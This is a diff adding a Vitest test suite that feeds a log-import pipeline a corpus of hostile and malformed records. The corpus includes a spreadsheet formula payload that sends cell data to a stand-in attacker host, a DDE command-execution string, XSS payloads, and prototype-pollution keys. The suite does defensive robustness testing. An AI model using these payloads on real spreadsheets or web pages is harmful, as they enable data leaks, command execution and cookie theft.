@@ -1,0 +1,117 @@
+import { writeFileSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { importFile } from '../../../../../electron/core/ingest/import-file';
+import { listQuarantine } from '../../../../../electron/core/ingest/quarantine';
+import { createPipelineVault, expectReconciled, NOW, type PipelineVault } from './pipeline-fixture';
+
+let vault: PipelineVault;
+beforeAll(() => {
+  vault = createPipelineVault();
+});
+afterAll(() => vault.cleanup());
+
+const base = {
+  class_uid: 3002,
+  activity_id: 1,
+  time: Date.UTC(2026, 9, 1, 8),
+  status_id: 1,
+  severity_id: 1,
+  metadata: { product: { name: 'Hostile', vendor_name: 'Tests' }, version: '1.1.0' },
+};
+const json = (o: object): Buffer => Buffer.from(JSON.stringify(o), 'utf8');
+const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Open")';
+const HTML = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>';
+
+/** Each hostile record with a label; the import must account for every one and never throw. */
+function corpus(): { label: string; bytes: Buffer }[] {
+  return [
+    { label: 'valid', bytes: json({ ...base, message: 'ok' }) },
+    { label: 'invalid UTF-8', bytes: Buffer.concat([Buffer.from('{"class_uid":3002,"activity_id":1,"time":1790000000000,"status_id":1,"severity_id":1,"message":"bad '), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('","metadata":{"product":{"name":"x"}}}')]) },
+    { label: 'NUL inside', bytes: Buffer.concat([Buffer.from('{"class_uid":3002,"activity_id":1,"time":1790000000001,"status_id":1,"severity_id":1,"message":"a'), Buffer.from([0]), Buffer.from('b","metadata":{"product":{"name":"x"}}}')]) },
+    { label: 'escaped NUL', bytes: json({ ...base, time: base.time + 2, message: 'a\u0000b' }) },
+    { label: '10 MB line', bytes: json({ ...base, time: base.time + 3, message: 'A'.repeat(10 * 1024 * 1024) }) },
+    { label: '10k nesting', bytes: Buffer.from('['.repeat(10_000) + ']'.repeat(10_000)) },
+    { label: '10k object nesting', bytes: Buffer.from('{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000)) },
+    { label: 'wrong types', bytes: json({ ...base, class_uid: 'three', time: 'yesterday', status_id: [1], actor: { user: { name: { x: 1 } } } }) },
+    { label: 'absurd time (far future)', bytes: json({ ...base, time: 1e20 }) },
+    { label: 'absurd time (negative)', bytes: json({ ...base, time: -8.64e15 - 1 }) },
+    { label: 'absurd time (NaN-ish string)', bytes: json({ ...base, time: 'NaN' }) },
+    { label: 'formula payload', bytes: json({ ...base, time: base.time + 4, message: FORMULA, actor: { user: { name: '@SUM(1+1)*cmd|" /C calc"!A0' } } }) },
+    { label: 'HTML payload', bytes: json({ ...base, time: base.time + 5, message: HTML, src_endpoint: { ip: '"><svg onload=alert(1)>' } }) },
+    { label: 'not JSON', bytes: Buffer.from('this is not json {') },
+    { label: 'JSON scalar', bytes: Buffer.from('42') },
+    { label: 'empty object', bytes: Buffer.from('{}') },
+    { label: 'huge number', bytes: Buffer.from('{"class_uid":3002,"time":1e400}') },
+    { label: 'prototype keys', bytes: Buffer.from('{"__proto__":{"polluted":1},"constructor":{"prototype":{"x":1}},"class_uid":3002,"activity_id":1,"time":1790000000009,"status_id":1,"severity_id":1,"metadata":{"product":{"name":"x"}}}') },
+    { label: 'control characters', bytes: json({ ...base, time: base.time + 6, message: '\u001b[31mred\u001b[0m\u202e\u0007' }) },
+  ];
+}
+
+describe('hostile corpus', () => {
+  it('accounts for every record, stores what is accepted verbatim, and keeps the bytes of what is refused', async () => {
+    const records = corpus();
+    const file = vault.input('hostile.jsonl');
+    // BOM at the start, CRLF endings, a blank line in the middle.
+    const body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), ...records.flatMap((r, i) => [r.bytes, Buffer.from(i === 3 ? '\r\n\r\n' : '\r\n')])]);
+    writeFileSync(file, body);
+    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expectReconciled(vault.db, s);
+    expect(s.read).toBe(records.length);
+    expect(s.imported).toBeGreaterThanOrEqual(1);
+    expect(s.quarantined).toBeGreaterThanOrEqual(6);
+    expect(Object.prototype).not.toHaveProperty('polluted');
+
+    // Every stored raw is exactly one of the records (no CR, no BOM); refused ones are in quarantine with their bytes.
+    const rawOf = new Map(records.map((r) => [r.bytes.toString('base64'), r.label]));
+    const stored = vault.db.prepare('SELECT raw, event FROM events WHERE batch_id = ?').all(s.batchId) as { raw: Buffer; event: string }[];
+    for (const e of stored) expect(rawOf.has(e.raw.toString('base64'))).toBe(true);
+    const quarantined = listQuarantine(vault.db, { batchId: s.batchId!, limit: 100 }).rows;
+    for (const q of quarantined) {
+      const full = vault.db.prepare('SELECT raw FROM quarantine WHERE id = ?').get(q.id) as { raw: Buffer };
+      expect(rawOf.has(full.raw.toString('base64'))).toBe(true);
+      expect(q.reason.length).toBeGreaterThan(0);
+      expect(q.line).toBeGreaterThan(0);
+    }
+    const labels = new Set([...stored.map((e) => rawOf.get(e.raw.toString('base64'))), ...quarantined.map((q) => rawOf.get(Buffer.from(q.rawBase64, 'base64').toString('base64')))]);
+    // the 10 MB record is listed truncated; everything else is found by its exact bytes
+    expect(labels.size + (labels.has('10 MB line') ? 0 : 1)).toBe(records.length);
+
+    // Formula and HTML payloads, when accepted, are stored and returned verbatim (rendered as text by the UI).
+    for (const e of stored) {
+      const ev = JSON.parse(e.event) as { message?: string };
+      if (ev.message?.startsWith('=HYPERLINK')) expect(ev.message).toBe(FORMULA);
+      if (ev.message?.startsWith('<script>')) expect(ev.message).toBe(HTML);
+    }
+    expect(stored.some((e) => e.event.includes('=HYPERLINK'))).toBe(true);
+    expect(stored.some((e) => e.event.includes('<script>'))).toBe(true);
+
+    // Line numbers count the blank line, as an editor does.
+    const nesting = quarantined.find((q) => q.rawText.startsWith('[[[['));
+    expect(nesting?.line).toBe(7);
+  });
+
+  it('an oversized (17 MiB) line is quarantined with its first bytes and the import goes on', async () => {
+    const file = vault.input('oversize.jsonl');
+    const big = Buffer.alloc(17 * 1024 * 1024, 0x41);
+    writeFileSync(file, Buffer.concat([json({ ...base, time: base.time + 100 }), Buffer.from('\n'), big, Buffer.from('\n'), json({ ...base, time: base.time + 101 }), Buffer.from('\n')]));
+    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expectReconciled(vault.db, s);
+    expect(s).toMatchObject({ read: 3, imported: 2, quarantined: 1 });
+    const q = listQuarantine(vault.db, { batchId: s.batchId!, limit: 10 }).rows[0]!;
+    expect(q.line).toBe(2);
+    expect(q.reason).toMatch(/16 MiB/);
+  });
+
+  it('binary garbage and truncated gzip never crash the importer', async () => {
+    const garbage = vault.input('garbage.jsonl');
+    const bytes = Buffer.alloc(256 * 1024);
+    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) & 255;
+    writeFileSync(garbage, Buffer.concat([Buffer.from('{"class_uid":3002}\n'), bytes]));
+    const s1 = await importFile(vault.db, { path: garbage }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expect(s1.read).toBe(s1.imported + s1.duplicates + s1.quarantined);
+    const gz = vault.input('cut.jsonl.gz');
+    writeFileSync(gz, Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0xab, 0x56]));
+    const s2 = await importFile(vault.db, { path: gz }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expect(s2.read).toBe(s2.imported + s2.duplicates + s2.quarantined);
+  });
+});
